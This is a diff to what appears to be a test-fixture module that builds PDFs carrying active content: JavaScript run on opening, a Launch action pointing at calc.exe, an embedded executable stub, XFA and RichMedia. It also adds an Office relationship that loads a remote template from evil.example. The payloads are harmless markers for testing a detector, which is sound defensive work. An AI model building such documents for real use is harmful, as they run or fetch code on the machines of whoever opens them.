@@ -22,6 +22,35 @@ def pdf(*, pages: int = 1, password: str = "", owner_only: bool = False) -> byte
     return out.getvalue()
 
 
+def pdf_with(name: str) -> bytes:
+    """A PDF that would do something by itself, or carries more than pages."""
+    document, out = pikepdf.new(), io.BytesIO()
+    document.add_blank_page()
+    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
+    root, page = document.Root, document.pages[0]
+    if name == "script at opening":
+        root.OpenAction = script
+    elif name == "script in names":
+        root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
+    elif name == "script of a page":
+        page.obj.AA = pikepdf.Dictionary(O=script)
+    elif name == "program in a link":
+        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
+        page.obj.Annots = document.make_indirect(pikepdf.Array([link]))
+    elif name == "dynamic form":
+        root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp/>"))
+    elif name == "film":
+        film = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
+        page.obj.Annots = pikepdf.Array([document.make_indirect(film)])
+    elif name == "file":
+        document.attachments["run.exe"] = PROGRAM
+    elif name == "goes to a page":
+        root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
+    document.save(out)
+    return out.getvalue()
+
+
 def png(*, width: int = 8, height: int = 8, mode: str = "RGB") -> bytes:
     return _picture("PNG", Image.new(mode, (width, height)))
 
@@ -102,3 +131,7 @@ def locked_archive() -> bytes:
 
 
 PROGRAM = b"MZ\x90\x00\x03" + b"\0" * 500
+TEMPLATE_ELSEWHERE = (
+    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    b'attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+)
